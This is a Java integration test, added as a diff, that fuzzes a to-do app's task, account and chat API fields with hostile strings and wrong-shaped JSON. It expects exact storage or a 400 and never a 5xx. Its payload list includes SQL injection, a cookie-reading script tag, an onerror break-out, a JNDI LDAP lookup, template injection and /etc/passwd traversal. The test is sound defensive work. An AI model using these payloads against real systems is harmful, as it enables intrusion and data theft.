@@ -1,0 +1,244 @@
+package dev.todo.reliability;
+
+import static dev.todo.support.Problems.assertProblem;
+import static dev.todo.support.Problems.fieldsAtFault;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.junit.jupiter.api.DynamicTest.dynamicTest;
+
+import dev.todo.support.ApiClient;
+import dev.todo.support.Http;
+import dev.todo.support.ModelStub;
+import jakarta.json.Json;
+import jakarta.json.JsonObject;
+import jakarta.json.JsonString;
+import java.net.URLEncoder;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.UUID;
+import java.util.concurrent.atomic.AtomicInteger;
+import java.util.regex.Pattern;
+import java.util.logging.Logger;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.DynamicTest;
+import org.junit.jupiter.api.TestFactory;
+
+/**
+ * Every field the API reads, fed text meant to break things and values of the wrong shape. Text a field may hold
+ * is stored and returned exactly as sent; anything else is a 400 that names the field; nothing is ever a 5xx.
+ * The number of cases tried is logged at the end.
+ */
+class HostileInputIT {
+
+    private static final Logger LOG = Logger.getLogger(HostileInputIT.class.getName());
+    private static final AtomicInteger CASES = new AtomicInteger();
+
+    /** Valid text that has broken applications before; a free-text field must keep each exactly. */
+    static final Map<String, String> NASTY_TEXT = new LinkedHashMap<>();
+    /** JSON values that no text field may accept. */
+    static final Map<String, String> WRONG_SHAPES = new LinkedHashMap<>();
+
+    static {
+        NASTY_TEXT.put("SQL injection", "'; DROP TABLE task; -- \" OR \"1\"=\"1");
+        NASTY_TEXT.put("script element", "<script>alert(document.cookie)</script>");
+        NASTY_TEXT.put("attribute break-out", "\"><img src=x onerror=alert(1)>");
+        NASTY_TEXT.put("expression and lookup syntax", "${jndi:ldap://example.invalid/a} #{7*7} {{7*7}} %s %n");
+        NASTY_TEXT.put("path traversal", "../../../../etc/passwd");
+        NASTY_TEXT.put("right-to-left override", "abc\u202Edef");
+        NASTY_TEXT.put("zero-width space and BOM", "a\u200Bb\uFEFFc");
+        NASTY_TEXT.put("emoji sequence", "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67 family");
+        NASTY_TEXT.put("stacked combining marks", "Z\u0351\u0315\u0300a\u0334\u0301l\u0335g\u0336o\u0337");
+        NASTY_TEXT.put("Urdu", "دودھ خریدیں، کل صبح نو بجے");
+        NASTY_TEXT.put("astral plane letters", "\uD835\uDD4B\uD835\uDD60 \uD800\uDF48");
+        NASTY_TEXT.put("backslashes and escapes", "\\\"\\\\'\\u0000 literally");
+        NASTY_TEXT.put("control characters", "tab\there\rreturn\u0007bell\u001B[31mred");
+
+        WRONG_SHAPES.put("number", "12345");
+        WRONG_SHAPES.put("boolean", "true");
+        WRONG_SHAPES.put("array", "[\"a\"]");
+        WRONG_SHAPES.put("object", "{\"a\":1}");
+        WRONG_SHAPES.put("huge number", "1e999999");
+        WRONG_SHAPES.put("NUL character", "\"a\\u0000b\"");
+        WRONG_SHAPES.put("unpaired surrogate", "\"a\\ud800b\"");
+        WRONG_SHAPES.put("nested arrays", "[".repeat(300) + "]".repeat(300));
+    }
+
+    private static ApiClient user;
+    private static String taskPath;
+
+    @BeforeAll
+    static void signUp() {
+        user = ApiClient.newUser("Hostile Input");
+        taskPath = "/tasks/" + user.createTask("The target of patches", "").getString("id");
+    }
+
+    @AfterAll
+    static void report() {
+        LOG.info(() -> "Hostile input: " + CASES.get() + " cases tried, none answered 5xx");
+    }
+
+    @TestFactory
+    Stream<DynamicTest> taskTextIsKeptExactly() {
+        List<DynamicTest> tests = new ArrayList<>();
+        NASTY_TEXT.forEach((name, text) -> {
+            tests.add(dynamicTest("title: " + name, () -> {
+                JsonObject created = Http.json(expect(user.post("/tasks", object("title", text)), 201));
+                assertThat(reread(created).getString("title")).isEqualTo(text.strip());
+            }));
+            tests.add(dynamicTest("description: " + name, () -> {
+                JsonObject created = Http.json(expect(user.post("/tasks",
+                        "{\"title\":\"t\",\"description\":" + Json.createValue(text) + "}"), 201));
+                assertThat(reread(created).getString("description")).isEqualTo(text);
+            }));
+            tests.add(dynamicTest("tag: " + name, () -> {
+                String tag = text.length() > 40 ? text.substring(0, 40) : text;
+                JsonObject created = Http.json(expect(user.post("/tasks",
+                        "{\"title\":\"t\",\"tags\":[" + Json.createValue(tag) + "]}"), 201));
+                assertThat(reread(created).getJsonArray("tags").getValuesAs(JsonString.class))
+                        .extracting(JsonString::getString).containsExactly(tag.strip());
+            }));
+            tests.add(dynamicTest("patched title: " + name, () -> {
+                JsonObject patched = Http.json(expect(user.patch(taskPath, object("title", text)), 200));
+                assertThat(reread(patched).getString("title")).isEqualTo(text.strip());
+            }));
+        });
+        return tests.stream();
+    }
+
+    @TestFactory
+    Stream<DynamicTest> taskFieldsRefuseWhatTheyCannotHold() {
+        List<DynamicTest> tests = new ArrayList<>();
+        for (String field : List.of("title", "description", "priority", "category", "dueAt", "remindAt", "recurrence")) {
+            WRONG_SHAPES.forEach((name, json) -> tests.add(dynamicTest(field + " as " + name, () ->
+                    assertRefused(user.post("/tasks", withTitle(field, json)), field))));
+            if (!field.equals("title") && !field.equals("description")) {
+                NASTY_TEXT.forEach((name, text) -> tests.add(dynamicTest(field + " as " + name, () ->
+                        assertRefused(user.patch(taskPath, "{\"" + field + "\":" + Json.createValue(text) + "}"), field))));
+            }
+        }
+        WRONG_SHAPES.forEach((name, json) -> {
+            if (!name.equals("array")) {
+                tests.add(dynamicTest("tags as " + name, () -> assertRefused(user.post("/tasks", withTitle("tags", json)), "tags")));
+            }
+            tests.add(dynamicTest("tags holding " + name, () -> assertRefused(user.post("/tasks",
+                    withTitle("tags", "[" + json + "]")), "tags")));
+            if (!name.equals("number")) {
+                tests.add(dynamicTest("version as " + name, () -> assertRefused(user.patch(taskPath,
+                        "{\"title\":\"t\",\"version\":" + json + "}"), "version")));
+            }
+        });
+        return tests.stream();
+    }
+
+    @TestFactory
+    Stream<DynamicTest> queryParametersAndIdsNeverBreakTheServer() {
+        List<DynamicTest> tests = new ArrayList<>();
+        for (String parameter : List.of("status", "priority", "category", "tag", "due", "q", "sort", "direction", "page",
+                "size", "tz")) {
+            NASTY_TEXT.forEach((name, text) -> tests.add(dynamicTest(parameter + "=" + name, () -> {
+                HttpResponse<String> response = user.get("/tasks?" + parameter + "=" + encode(text));
+                counted(response);
+                assertThat(response.statusCode()).as(response.body()).isIn(200, 400);
+            })));
+        }
+        NASTY_TEXT.forEach((name, text) -> tests.add(dynamicTest("task id " + name, () -> {
+            HttpResponse<String> response = user.get("/tasks/" + encode(text));
+            counted(response);
+            assertThat(response.statusCode()).as(response.body()).isIn(400, 404);
+        })));
+        return tests.stream();
+    }
+
+    @TestFactory
+    Stream<DynamicTest> accountFieldsKeepTextOrRefuseIt() {
+        List<DynamicTest> tests = new ArrayList<>();
+        NASTY_TEXT.forEach((name, text) -> {
+            tests.add(dynamicTest("name: " + name, () -> {
+                HttpResponse<String> response = expect(user.patch("/me", object("name", text)), 200);
+                assertThat(Http.json(response).getString("name")).isEqualTo(text.strip());
+                assertThat(Http.json(user.get("/me")).getString("name")).isEqualTo(text.strip());
+            }));
+            tests.add(dynamicTest("email at sign-up: " + name, () -> assertRefused(ApiClient.anonymous("POST", "/auth/signup",
+                    "{\"name\":\"n\",\"password\":\"long enough password\",\"email\":" + Json.createValue(text) + "}"), "email")));
+            tests.add(dynamicTest("sign-in with " + name, () -> {
+                HttpResponse<String> response = ApiClient.anonymous("POST", "/auth/login",
+                        "{\"email\":" + Json.createValue(text) + ",\"password\":" + Json.createValue(text) + "}");
+                counted(response);
+                assertThat(response.statusCode()).as(response.body()).isIn(400, 401);
+            }));
+        });
+        WRONG_SHAPES.forEach((name, json) -> {
+            tests.add(dynamicTest("name as " + name, () -> assertRefused(user.patch("/me", "{\"name\":" + json + "}"), "name")));
+            tests.add(dynamicTest("sign-up password as " + name, () -> assertRefused(ApiClient.anonymous("POST", "/auth/signup",
+                    "{\"name\":\"n\",\"email\":\"" + UUID.randomUUID() + "@example.com\",\"password\":" + json + "}"), "password")));
+            tests.add(dynamicTest("new password as " + name, () -> assertRefused(user.post("/me/password",
+                    "{\"currentPassword\":\"password-Hostile Input\",\"newPassword\":" + json + "}"), "newPassword")));
+        });
+        return tests.stream();
+    }
+
+    @TestFactory
+    Stream<DynamicTest> conversationTextIsKeptExactly() {
+        List<DynamicTest> tests = new ArrayList<>();
+        NASTY_TEXT.forEach((name, text) -> tests.add(dynamicTest("chat message and title: " + name, () -> {
+            ModelStub.instance().reset();
+            ModelStub.instance().then(ModelStub.Reply.text("Noted."));
+            JsonObject reply = Http.json(expect(user.post("/chat", object("message", text)), 200));
+            String path = "/conversations/" + reply.getString("conversationId");
+            JsonObject stored = Http.json(user.get(path));
+            assertThat(stored.getJsonArray("messages").getJsonObject(0).getString("content")).isEqualTo(text);
+            expect(user.patch(path, object("title", text)), 200);
+            assertThat(Http.json(user.get(path)).getString("title")).isEqualTo(text.strip());
+        })));
+        WRONG_SHAPES.forEach((name, json) -> {
+            tests.add(dynamicTest("chat message as " + name, () -> assertRefused(user.post("/chat", "{\"message\":" + json + "}"), "message")));
+            tests.add(dynamicTest("conversation id as " + name, () -> assertRefused(user.post("/chat",
+                    "{\"message\":\"hi\",\"conversationId\":" + json + "}"), "conversationId")));
+        });
+        return tests.stream();
+    }
+
+    private static JsonObject reread(JsonObject task) {
+        return Http.json(expect(user.get("/tasks/" + task.getString("id")), 200));
+    }
+
+    private static HttpResponse<String> expect(HttpResponse<String> response, int status) {
+        counted(response);
+        assertThat(response.statusCode()).as(response.body()).isEqualTo(status);
+        return response;
+    }
+
+    private static void assertRefused(HttpResponse<String> response, String field) {
+        counted(response);
+        JsonObject problem = assertProblem(response, 400);
+        if (problem.containsKey("errors")) {
+            assertThat(fieldsAtFault(problem)).as(response.body())
+                    .anySatisfy(named -> assertThat(named).matches(Pattern.quote(field) + "(\\[\\d+])?"));
+        } else {
+            assertThat(problem.getString("detail", "")).as("a problem without field errors says what is wrong")
+                    .isNotBlank();
+        }
+    }
+
+    private static void counted(HttpResponse<String> response) {
+        CASES.incrementAndGet();
+        assertThat(response.statusCode()).as("never a server error: " + response.body()).isLessThan(500);
+    }
+
+    private static String object(String field, String text) {
+        return "{\"" + field + "\":" + Json.createValue(text) + "}";
+    }
+
+    private static String withTitle(String field, String json) {
+        return field.equals("title") ? "{\"title\":" + json + "}" : "{\"title\":\"t\",\"" + field + "\":" + json + "}";
+    }
+
+    private static String encode(String text) {
+        return URLEncoder.encode(text, StandardCharsets.UTF_8);
+    }
+}
